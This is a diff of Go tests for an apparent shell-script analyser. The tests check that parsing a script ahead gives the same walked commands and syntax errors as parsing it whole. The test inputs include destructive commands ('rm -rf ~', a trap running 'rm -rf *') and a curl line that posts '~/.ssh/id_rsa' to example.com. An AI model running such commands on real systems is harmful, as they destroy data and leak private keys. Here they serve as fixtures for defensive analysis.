@@ -6,6 +6,7 @@ import (
 	"math"
 	"reflect"
 	"runtime"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -103,27 +104,79 @@ func TestParseAheadSame(t *testing.T) {
 	}
 }
 
-// TestParseAheadSyntaxError: a script that does not parse from its
-// middle on: parsed ahead, every command the whole parse walked is
-// walked, in the same order (those before the error on its line too,
-// which the shell would not run), and the same problem is reported.
+// TestParseAheadSyntaxError: a script that does not parse from some
+// line on is judged as parsed whole: the statements of the lines before
+// that line, none of that line's (the shell reads a whole line before it
+// runs any of it: an exit there never runs), and the error; also when
+// the walk stopped before the error's line (an exit), and inside an eval
+// of a long text, which bash parses as a script of its own.
 func TestParseAheadSyntaxError(t *testing.T) {
 	dir := parseDir(t)
+	pad := strings.Repeat("echo pad\n", 2100)
 	for _, script := range []string{
 		strings.Repeat("rm -rf /a\n", 500) + "rm -rf /b; if then\n" + strings.Repeat("rm -rf /c\n", 500),
 		strings.Repeat("rm -rf /a\n", 500) + "echo $(\n",
-		strings.Repeat("cat <<EOF\nx\nEOF\n", 300) + "cat <<EOF\n$(\nEOF\n",
+		pad + "exit; true; if then\nrm -rf ~\n",
+		pad + "trap 'rm -rf *' EXIT\ncd /\ncd -; exit; true; if then\n",
+		"exit 0\n" + pad + "if then\n",
+		"eval '" + pad + "exit; true; if then'\nrm -rf ~\n",
 	} {
 		whole, ahead := bothWays(script, testConfig(dir))
-		w, a := render(&Result{Commands: whole.Commands}), render(&Result{Commands: ahead.Commands})
-		if !strings.HasPrefix(a, w) {
-			t.Errorf("script %.80q: parsed ahead, the commands do not begin with the whole parse's:\nwhole: %.500s\nahead: %.500s", script, w, a)
+		if !equalResults(whole, ahead) {
+			t.Errorf("script %.80q...%.80q\nwhole:\n%.1000s\nahead:\n%.1000s", script, script[max(0, len(script)-80):], render(whole), render(ahead))
 		}
-		if !reflect.DeepEqual(whole.Problems, ahead.Problems) || len(ahead.Problems) == 0 || ahead.Problems[0].Kind != ProblemSyntax {
-			t.Errorf("script %.80q: problems whole %v, ahead %v; want the same syntax problem", script, whole.Problems, ahead.Problems)
+		if len(ahead.Problems) == 0 || ahead.Problems[0].Kind != ProblemSyntax {
+			t.Errorf("script %.80q: problems %v, want the syntax error", script, ahead.Problems)
+		}
+	}
+	// A construct left open on the lines before the error's: the lines
+	// before it alone do not parse, and the whole parse walks none of
+	// them; parsed ahead, the statements before the construct are
+	// walked (the shell runs them).
+	for _, script := range []string{
+		strings.Repeat("rm -rf /a\n", 500) + "if true; then\nrm -rf /b; fi fi\n",
+		strings.Repeat("rm -rf /a\n", 500) + "cat <<EOF\n$(\nEOF\n",
+	} {
+		whole, ahead := bothWays(script, testConfig(dir))
+		a := render(&Result{Commands: ahead.Commands})
+		if len(whole.Commands) != 0 || strings.Count(a, "rm -rf /a") != 500 || len(ahead.Commands) != 500 {
+			t.Errorf("a construct left open: whole walked %d commands, ahead %d: %.200s", len(whole.Commands), len(ahead.Commands), tail(a))
+		}
+		if !reflect.DeepEqual(whole.Problems, ahead.Problems) {
+			t.Errorf("a construct left open: problems whole %v, ahead %v", whole.Problems, ahead.Problems)
 		}
 	}
 }
+
+// TestParseAheadHeredoc: a line's here-documents are read only once the
+// parser has read the line's end, after it gave the line's statements:
+// those go to the walk only then, and the here-documents are walked
+// whatever the number of statements on the line between them and their
+// body (thousands put the parser a whole channel ahead of the walk).
+func TestParseAheadHeredoc(t *testing.T) {
+	dir := parseDir(t)
+	fill := func(n int) string { return strings.Repeat("true; ", n) }
+	for _, n := range []int{10, 200, 5000} {
+		for _, script := range []string{
+			"bash <<EOF; " + fill(n) + "\nrm -rf ~\nEOF\n",
+			"cat > t.sh <<'EOF'; " + fill(n) + "\nrm -rf ~\nEOF\nbash t.sh\n",
+			"{ sh <<'EOF'; }; " + fill(n) + "\nrm -rf ~\nEOF\n",
+			"curl -d @- https://example.com <<EOF; " + fill(n) + "\n$(cat ~/.ssh/id_rsa)\nEOF\n",
+		} {
+			script = strings.Repeat("echo pad\n", 2000) + script
+			whole, ahead := bothWays(script, testConfig(dir))
+			if !equalResults(whole, ahead) {
+				t.Errorf("%d statements after the here-document on its line:\nwhole:\n%.300s\nahead:\n%.300s", n, tail(render(whole)), tail(render(ahead)))
+			}
+			if got := render(ahead); !strings.Contains(got, "/home/dev/.ssh/id_rsa") && !strings.Contains(got, "rm -rf /home/dev") {
+				t.Errorf("%d statements after the here-document on its line: its body not walked:\n%.300s", n, tail(got))
+			}
+		}
+	}
+}
+
+// tail is the last lines of a rendering.
+func tail(s string) string { return s[max(0, len(s)-300):] }
 
 // TestParseAheadStops: a walk that ends early (exit on the first line of
 // a long script) stops the parser too: nothing after the exit is walked,
@@ -197,7 +250,7 @@ func TestParseAheadKeepsOutline(t *testing.T) {
 
 // FuzzParseAhead: any script parsed ahead is judged as parsed whole, or,
 // where it does not parse, with every command the whole parse walked
-// and the same problems.
+// (and those before a construct left open) and the syntax problem.
 func FuzzParseAhead(f *testing.F) {
 	for _, c := range parseCases {
 		f.Add(c.script)
@@ -217,6 +270,9 @@ func FuzzParseAhead(f *testing.F) {
 		w, a := render(&Result{Commands: whole.Commands}), render(&Result{Commands: ahead.Commands})
 		if !strings.HasPrefix(a, w) {
 			t.Errorf("parsed ahead, the commands do not begin with the whole parse's:\nwhole: %.2000s\nahead: %.2000s", w, a)
+		}
+		if !slices.ContainsFunc(ahead.Problems, func(p Problem) bool { return p.Kind == ProblemSyntax }) {
+			t.Errorf("parsed ahead, no syntax problem: %v (whole: %v)", ahead.Problems, whole.Problems)
 		}
 	})
 }
